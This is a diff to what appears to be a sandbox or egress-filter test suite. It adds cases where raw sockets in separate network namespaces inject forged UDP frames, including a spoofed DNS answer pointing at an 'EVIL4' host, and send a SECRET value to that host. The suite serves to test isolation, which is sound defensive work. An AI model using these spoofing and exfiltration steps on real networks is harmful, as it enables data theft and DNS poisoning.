@@ -255,6 +255,32 @@ def teach(ident):
 
 
 @way(caps=["setfcap"])
+def answered_to_a_raw_socket_in_a_namespace_of_its_own():
+    """The same, where a raw socket gets the answer before any other does."""
+    def teach_raw():
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+        teach(8)
+        raw.close()
+    in_own_namespace(teach_raw)
+    use()
+
+
+@way(caps=["setfcap"])
+def answered_to_a_raw_socket_alone_in_a_namespace_of_its_own():
+    """The same, where nobody else is there to get it: the question was asked by a socket that is closed."""
+    def teach_raw():
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+        ask(9, wait=False).close()
+        forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(9, EVIL4)))
+        for _ in range(3):
+            send_frame(forged, device="v7b", to=mac("v7a"))
+        raw.settimeout(TIMEOUT)
+        attempt(lambda: raw.recv(1000))
+    in_own_namespace(teach_raw)
+    use()
+
+
+@way(caps=["setfcap"])
 def answered_over_tcp_in_a_namespace_of_its_own():
     """The same on a connection that it makes itself accept there, which comes from the resolver's port and from no program's socket."""
     in_own_namespace(teach_over_tcp)
@@ -300,6 +326,20 @@ def flow_in_a_namespace_of_its_own():
     in_own_namespace(fake)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind(("", 7104))
+    s.sendto(SECRET, (EVIL4, 123))
+
+
+@way(caps=["setfcap"])
+def flow_to_a_raw_socket_in_a_namespace_of_its_own():
+    """The same to a raw socket."""
+    def fake():
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+        raw.settimeout(TIMEOUT)
+        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7106, b"hello")), device="v7b", to=mac("v7a"))
+        attempt(lambda: raw.recv(1000))
+    in_own_namespace(fake)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("", 7106))
     s.sendto(SECRET, (EVIL4, 123))
 
 
